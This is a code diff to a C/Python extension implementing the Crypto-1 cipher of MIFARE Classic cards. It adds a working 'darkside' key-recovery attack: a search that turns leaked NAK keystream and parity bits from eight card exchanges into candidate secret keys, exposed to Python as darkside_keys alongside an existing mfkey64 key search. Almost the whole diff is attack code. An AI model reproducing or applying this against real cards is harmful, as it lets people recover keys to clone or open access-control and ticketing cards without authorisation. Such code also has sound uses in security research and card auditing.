@@ -80,13 +80,16 @@ static int gives_keystream(State *s, uint32_t ks) {
     return 1;
 }
 
-static inline void rollback_bit(State *s, uint32_t in, int encrypted) {
+/* Undo one clock; returns the keystream bit of that clock. */
+static inline uint32_t rollback_bit(State *s, uint32_t in, int encrypted) {
     uint32_t odd = s->odd & MASK24;
     s->odd = s->even;
     s->even = odd >> 1;
+    uint32_t ks = filter(s->odd);
     uint32_t out = (odd & 1) ^ in ^ parity((LF_POLY_EVEN & s->even) ^ (LF_POLY_ODD & s->odd));
-    if (encrypted) out ^= filter(s->odd);
+    if (encrypted) out ^= ks;
     s->even |= out << 23;
+    return ks;
 }
 
 static void rollback_word(State *s, uint32_t in, int encrypted) {
@@ -265,6 +268,147 @@ static int recover(uint32_t ks2, uint32_t in, State **states, size_t *count) {
     return failed ? -1 : 0;
 }
 
+/* --- darkside: the common-prefix search ------------------------------------------------------------------ */
+
+/* Darkside (Courtois 2009) leaks, for one tag nonce and one {nR} whose first 29 bits stay the same on air, the
+ * keystream of the 4-bit NAK (clocks 64-67) and the 8 parity bits the card accepted, for each of the 8 values c
+ * of {nR}'s last 3 bits. The variants share the state P after 29 clocks of {nR}; they differ only in the 3
+ * plaintext bits fed next, and from there on the cipher is fed nothing, so the state at clock 67 of variant c
+ * is that of variant 0 XOR ahead[d], d being the difference of those plaintext bits (linear in d). Which d goes
+ * with which c depends on whether the keystream bits of clocks 30 and 31 (which read the freshly fed bits)
+ * change with them: 16 cases (a relation d(c), see darkside_search), each tried. Within one, every variant's
+ * NAK bits constrain 21 bits of one half of the state at clock 67: the odd half gives clocks 65 and 67, the
+ * even half clocks 64 and 66 (2^21 / 4^8 = 32 survivors a half); the survivors are joined (with the 3 top
+ * bits of each half, which no NAK bit reads) and checked against every parity bit before rolling back to the
+ * key. */
+typedef struct {
+    uint32_t fed, nr, ar;   /* uid^nT; {nR} with its last 3 bits 0; {aR} */
+    uint8_t nak[8], par[8]; /* by variant: NAK keystream (bit i: clock 64+i); parity bits sent (bit j: byte j) */
+} Leaks;
+
+static State ahead[8];
+
+static void fill_ahead(void) {
+    for (uint32_t d = 0; d < 8; d++) {
+        State s = {0, 0};
+        for (int i = 0; i < 3; i++) clock_bit(&s, (d >> i) & 1, 0);
+        for (int i = 0; i < 35; i++) clock_bit(&s, 0, 0);
+        ahead[d] = s;
+    }
+}
+
+static inline uint32_t odd_parity8(uint32_t byte) { return 1 ^ parity(byte & 0xFF); }
+
+/* The low 21 bits of one half of variant 0's state at clock 67 that give every variant's two NAK bits read
+ * from that half, under the relation d; returns how many were written to out (room for 2^21). */
+static size_t half_candidates(const Leaks *l, const uint8_t *d, int odd, uint32_t *out) {
+    uint32_t offset[8];
+    int low = odd ? 1 : 0;
+    for (int c = 0; c < 8; c++) offset[c] = odd ? ahead[d[c]].odd : ahead[d[c]].even;
+    size_t n = 0;
+    for (uint32_t x = 0; x < (1u << 21); x++) {
+        int c = 0;
+        for (; c < 8; c++) {
+            uint32_t y = x ^ offset[c];
+            if (filter(y >> 1) != ((l->nak[c] >> low) & 1u) || filter(y) != ((l->nak[c] >> (low + 2)) & 1u)) break;
+        }
+        if (c == 8) out[n++] = x;
+    }
+    return n;
+}
+
+/* Whether a candidate state at clock 67 of variant 0 explains every leak (each variant run forward from the
+ * common state P: its NAK bits and its 8 parity bits); then *key is the key it rolls back to. */
+static int explains_leaks(const Leaks *l, State x0, uint64_t *key) {
+    State p = x0;
+    for (int i = 0; i < 35; i++) rollback_bit(&p, 0, 0);
+    for (int i = 31; i >= 29; i--) rollback_bit(&p, bebit(l->nr, i), 1);
+    uint32_t tail[8]; /* by variant: keystream of clocks 29-31 (bits 0-2) and 32 (bit 3) */
+    for (int c = 0; c < 8; c++) {
+        uint32_t nr = l->nr | (uint32_t)c << 5, ks = 0, ar_ks = 0, nak = 0;
+        State s = p;
+        for (int i = 29; i < 32; i++) ks |= clock_bit(&s, bebit(nr, i), 1) << (i - 29);
+        for (int i = 0; i < 32; i++) ar_ks |= clock_bit(&s, 0, 0) << (i ^ 24);
+        for (int i = 0; i < 4; i++) nak |= clock_bit(&s, 0, 0) << i;
+        if (nak != l->nak[c]) return 0;
+        uint32_t ar = l->ar ^ ar_ks;
+        for (int j = 0; j < 4; j++) {
+            uint32_t next = j < 3 ? bebit(ar_ks, 8 * j + 8) : (nak & 1);
+            if ((odd_parity8(ar >> (24 - 8 * j)) ^ next) != ((l->par[c] >> (4 + j)) & 1u)) return 0;
+        }
+        tail[c] = ks | bebit(ar_ks, 0) << 3;
+    }
+    uint32_t head = 0; /* keystream of {nR}'s first 29 clocks, rolling back to the state after uid^nT */
+    for (int i = 28; i >= 0; i--) head |= rollback_bit(&p, bebit(l->nr, i), 1) << (i ^ 24);
+    for (int c = 0; c < 8; c++) {
+        uint32_t ks = head;
+        for (int i = 0; i < 3; i++) ks |= ((tail[c] >> i) & 1u) << ((29 + i) ^ 24);
+        uint32_t nr = (l->nr | (uint32_t)c << 5) ^ ks;
+        for (int j = 0; j < 4; j++) {
+            uint32_t next = j < 3 ? bebit(ks, 8 * j + 8) : (tail[c] >> 3) & 1u;
+            if ((odd_parity8(nr >> (24 - 8 * j)) ^ next) != ((l->par[c] >> j) & 1u)) return 0;
+        }
+    }
+    rollback_word(&p, l->fed, 0);
+    *key = lfsr48(&p);
+    return 1;
+}
+
+/* A quick test before explains_leaks, for the rest of the candidates' 64 top bits: the parity bit of {aR}'s last
+ * byte in each variant, from its state at clock 67 rolled back 11 clocks (a wrong candidate fails it within two
+ * variants on average, where explains_leaks costs some 80 clocks). */
+static int last_parities_check(const Leaks *l, const uint8_t *d, State x0) {
+    for (int c = 0; c < 8; c++) {
+        State s = {x0.odd ^ ahead[d[c]].odd, x0.even ^ ahead[d[c]].even};
+        for (int i = 0; i < 3; i++) rollback_bit(&s, 0, 0);
+        uint32_t ks = 0;
+        for (int i = 7; i >= 0; i--) ks |= rollback_bit(&s, 0, 0) << i;
+        if ((odd_parity8(l->ar ^ ks) ^ (l->nak[c] & 1u)) != ((l->par[c] >> 7) & 1u)) return 0;
+    }
+    return 1;
+}
+
+/* Every key that explains the leaks: *keys (malloc'ed, freed by the caller; may repeat) and *found. Returns 0,
+ * or -1 when out of memory. */
+static int darkside_search(const Leaks *l, uint64_t **keys, size_t *found) {
+    uint32_t *odd = malloc(sizeof(uint32_t) << 21), *even = malloc(sizeof(uint32_t) << 21);
+    size_t cap = 16, n = 0;
+    uint64_t *out = malloc(sizeof(uint64_t) * cap);
+    int failed = odd == NULL || even == NULL || out == NULL;
+    /* d(c): bit 0 is c's bit 0 (clock 29); bit 1 flips with bit 0 when clock 30's keystream reads it (a);
+     * bit 2 flips by a function g of bits 0-1 (clock 31's keystream reads both; g(0) = 0, g(1..3) from g3) */
+    for (int a = 0; a < 2 && !failed; a++)
+        for (int g3 = 0; g3 < 8 && !failed; g3++) {
+            uint8_t d[8];
+            for (int c = 0; c < 8; c++) {
+                uint32_t d0 = c & 1, d1 = ((c >> 1) & 1) ^ (a & d0), low = d0 | d1 << 1;
+                uint32_t d2 = ((c >> 2) & 1) ^ (low ? (g3 >> (low - 1)) & 1 : 0);
+                d[c] = (uint8_t)(low | d2 << 2);
+            }
+            size_t no = half_candidates(l, d, 1, odd), ne = half_candidates(l, d, 0, even);
+            for (size_t i = 0; i < no && !failed; i++)
+                for (size_t j = 0; j < ne && !failed; j++)
+                    for (uint32_t top = 0; top < 64 && !failed; top++) {
+                        State x0 = {odd[i] | (top & 7) << 21, even[j] | (top >> 3) << 21};
+                        uint64_t key;
+                        if (!last_parities_check(l, d, x0) || !explains_leaks(l, x0, &key)) continue;
+                        if (n == cap) {
+                            uint64_t *grown = realloc(out, sizeof(uint64_t) * cap * 2);
+                            failed = grown == NULL;
+                            if (failed) break;
+                            out = grown;
+                            cap *= 2;
+                        }
+                        out[n++] = key;
+                    }
+        }
+    free(odd);
+    free(even);
+    *keys = out;
+    *found = n;
+    return failed ? -1 : 0;
+}
+
 /* --- Python interface ----------------------------------------------------------------------------------- */
 
 /* An int of 0..2^32-1 (O& converter): a larger or negative one is a ValueError, not silently cut. */
@@ -404,6 +548,41 @@ static PyObject *py_mfkey64_keys(PyObject *self, PyObject *args) {
     return key_search(ks2, nr_enc, fed, explains_tag_answer, &ks3);
 }
 
+static PyObject *py_darkside_keys(PyObject *self, PyObject *args) {
+    Leaks l;
+    const char *nak, *par;
+    Py_ssize_t nak_len, par_len;
+    if (!PyArg_ParseTuple(args, "O&O&O&y#y#:darkside_keys", word_arg, &l.fed, word_arg, &l.nr, word_arg, &l.ar, &nak,
+                          &nak_len, &par, &par_len))
+        return NULL;
+    if (nak_len != 8 || par_len != 8) {
+        PyErr_SetString(PyExc_ValueError, "darkside needs the NAK keystream and the parity bits of 8 variants");
+        return NULL;
+    }
+    for (int c = 0; c < 8; c++) {
+        if ((uint8_t)nak[c] > 0xF) {
+            PyErr_SetString(PyExc_ValueError, "a NAK keystream is 4 bits");
+            return NULL;
+        }
+        l.nak[c] = (uint8_t)nak[c];
+        l.par[c] = (uint8_t)par[c];
+    }
+    l.nr &= ~0xE0u; /* the variant sets the last 3 bits */
+    uint64_t *keys = NULL;
+    size_t found = 0;
+    int failed;
+    Py_BEGIN_ALLOW_THREADS
+    failed = darkside_search(&l, &keys, &found);
+    Py_END_ALLOW_THREADS
+    if (failed) {
+        free(keys);
+        return PyErr_NoMemory();
+    }
+    PyObject *list = key_list(keys, found);
+    free(keys);
+    return list;
+}
+
 static PyMethodDef methods[] = {
     {"recover_states", py_recover_states, METH_VARARGS,
      "recover_states(ks2, fed) -> (odd, even): every Crypto-1 state that gives the 32 keystream bits ks2 while fed "
@@ -414,6 +593,9 @@ static PyMethodDef methods[] = {
     {"mfkey64_keys", py_mfkey64_keys, METH_VARARGS,
      "mfkey64_keys(fed, nr_enc, ks2, ks3) -> list of keys: those that, fed uid^nT and {nR}, give the keystreams "
      "ks2 of {aR} and ks3 of {aT} (sorted, distinct)."},
+    {"darkside_keys", py_darkside_keys, METH_VARARGS,
+     "darkside_keys(fed, nr_enc, ar_enc, naks, parities) -> list of keys: those that, fed uid^nT, explain the "
+     "8 leaks of a darkside collection (sorted, distinct)."},
     {NULL, NULL, 0, NULL},
 };
 
@@ -424,5 +606,6 @@ static struct PyModuleDef module = {
 
 PyMODINIT_FUNC PyInit__crypto1(void) {
     fill_filter_bits();
+    fill_ahead();
     return PyModule_Create(&module);
 }
